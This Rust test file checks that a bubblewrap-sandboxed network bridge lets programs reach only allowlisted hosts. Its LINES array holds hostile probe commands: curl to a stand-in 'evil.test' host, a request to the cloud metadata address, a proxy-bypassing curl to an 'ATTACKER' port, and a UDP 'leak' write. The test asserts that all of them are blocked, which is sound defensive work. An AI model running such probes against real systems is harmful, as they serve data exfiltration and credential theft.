//! Real programs in a real network of their own.

use std::collections::HashMap;
use std::net::UdpSocket;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::Duration;

use sandbox::net::{Outcome, bridge};

use crate::rig::{PAGE, Rig};

const NAME: &str = "inside::sbx_04_programs_inside_reach_what_is_on_the_list_and_nothing_else";
const INSIDE: &str = "TANDEM_TEST_NET_INSIDE";

/// What runs inside, one line of shell each, with the exit code and the output that it comes back with.
const LINES: [(&str, &str); 8] = [
    ("listed", "curl -sS -m 5 http://a.test/"),
    ("listed over tls", "curl -sS -m 5 https://a.test/"),
    ("other", "curl -sS -m 5 http://evil.test/"),
    ("other over tls", "curl -sS -m 5 https://evil.test/"),
    ("metadata", "curl -sS -m 5 http://169.254.169.254/latest/"),
    ("around", "curl -sS -m 5 --noproxy '*' http://127.0.0.1:$ATTACKER/"),
    ("udp", "echo leak > /dev/udp/127.0.0.1/$UDP"),
    ("names", "getent hosts a.test"),
];

/// The same program plays three parts: the test, the first process inside, and the bridge.
#[test]
fn sbx_04_programs_inside_reach_what_is_on_the_list_and_nothing_else() {
    let last = std::env::args_os().next_back().unwrap_or_default();
    if Path::new(&last).ends_with("net.sock") {
        // As `__netbridge`. Comes back on an error only.
        bridge::run(Path::new(&last)).unwrap();
    } else if let Ok(socket) = std::env::var(INSIDE) {
        inside(Path::new(&socket));
    } else {
        tokio::runtime::Runtime::new().unwrap().block_on(outside());
    }
}

/// As the stage does it: first the bridge, then the command.
fn inside(socket: &Path) {
    let first = [NAME.to_owned(), "--exact".to_owned(), "--nocapture".to_owned()];
    bridge::start(&std::env::current_exe().unwrap(), &first, socket).unwrap();
    for (name, line) in LINES {
        let output = Command::new("bash")
            .args(["-c", line])
            .envs(bridge::environment(bridge::PORT))
            .stdin(Stdio::null())
            .output()
            .unwrap();
        let said = [output.stdout, output.stderr].concat();
        println!("RESULT\t{name}\t{:?}\t{:?}", output.status.code(), String::from_utf8_lossy(&said));
    }
}

async fn outside() {
    let rig = Rig::with(&["a.test"], PAGE).await;
    rig.names.trust("evil.test", rig.attacker.address);
    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
    udp.set_nonblocking(true).unwrap();
    let socket = rig.socket();
    let own = std::env::current_exe().unwrap();
    let mut sandboxed = Command::new("/usr/bin/bwrap");
    sandboxed
        .args(["--unshare-all", "--die-with-parent", "--new-session", "--cap-drop", "ALL", "--ro-bind", "/", "/"])
        .args(["--dev", "/dev", "--proc", "/proc", "--tmpfs", "/run", "--tmpfs", "/tmp", "--bind"])
        .args([socket.parent().unwrap(), socket.parent().unwrap()])
        // It may lie below one of the folders that were just covered.
        .arg("--ro-bind")
        .args([&own, &own])
        .arg("--")
        .arg(&own)
        .args([NAME, "--exact", "--nocapture"])
        .env(INSIDE, &socket)
        .env("ATTACKER", rig.attacker.address.port().to_string())
        .env("UDP", udp.local_addr().unwrap().port().to_string())
        .stdin(Stdio::null());
    let output = tokio::task::spawn_blocking(move || sandboxed.output()).await.unwrap().unwrap_or_else(|error| {
        panic!("bubblewrap does not start ({error}): install the package `bubblewrap`");
    });
    let said = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(output.status.success(), "{said}\n{}", String::from_utf8_lossy(&output.stderr));
    let results = results(&said);
    let get = |name: &str| results.get(name).cloned().unwrap_or_else(|| panic!("{name}: {said}"));

    assert_eq!(get("listed"), ("Some(0)".to_owned(), "\"hello\"".to_owned()));
    // The server speaks no TLS; what counts is that curl's hello came to it.
    assert!(rig.friend.got().windows(3).any(|bytes| bytes == [22, 3, 1]), "{}", rig.friend.text());
    assert!(get("other").1.contains("not on the list"), "{:?}", get("other"));
    assert!(get("other over tls").1.contains("403"), "{:?}", get("other over tls"));
    assert!(get("metadata").1.contains("addresses are not allowed"), "{:?}", get("metadata"));
    assert_ne!(get("around").0, "Some(0)");
    assert_ne!(get("names").0, "Some(0)");
    assert_eq!((rig.attacker.connections(), udp.recv(&mut [0; 8]).is_err()), (0, true));
    let allowed = rig.events().iter().filter(|event| matches!(event.outcome, Outcome::Allowed(_))).count();
    assert_eq!((allowed, rig.events().len()), (2, 5), "{:#?}", rig.events());
    assert!(!runs_with(&socket), "the bridge outlived its command");
}

fn results(said: &str) -> HashMap<String, (String, String)> {
    let parts = |line: &str| {
        let mut parts = line.split('\t').skip(1).map(str::to_owned);
        Some((parts.next()?, (parts.next()?, parts.next()?)))
    };
    said.lines().filter(|line| line.contains("RESULT\t")).filter_map(parts).collect()
}

/// Whether a process on this machine was started with this path. Looks again for a moment: the kernel ends a namespace on its own.
fn runs_with(path: &Path) -> bool {
    let needle = path.as_os_str().as_encoded_bytes();
    let one = || {
        std::fs::read_dir("/proc").unwrap().flatten().any(|entry| {
            std::fs::read(entry.path().join("cmdline"))
                .is_ok_and(|line| line.split(|byte| *byte == 0).any(|word| word == needle))
        })
    };
    let mut left = 50;
    while one() && left > 0 {
        left -= 1;
        std::thread::sleep(Duration::from_millis(20));
    }
    left == 0
}

#[test]
fn sec_46_what_programs_are_told_is_the_way_through_the_bridge_alone() {
    let told: HashMap<String, String> = bridge::environment(bridge::PORT).into_iter().collect();
    for name in ["HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy"] {
        assert_eq!(told[name], "http://127.0.0.1:3128");
    }
    assert_eq!(told["NO_PROXY"], "localhost,127.0.0.1,::1");
}

#[test]
fn a_bridge_without_a_listener_says_so() {
    let mut bridge = Command::new(std::env::current_exe().unwrap());
    let folder = tempfile::tempdir().unwrap();
    let output =
        bridge.args([NAME, "--exact"]).arg(folder.path().join("net.sock")).stdin(Stdio::null()).output().unwrap();
    let said = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(!output.status.success() && said.contains("Bridge { step: \"taking its port\""), "{said}");
}
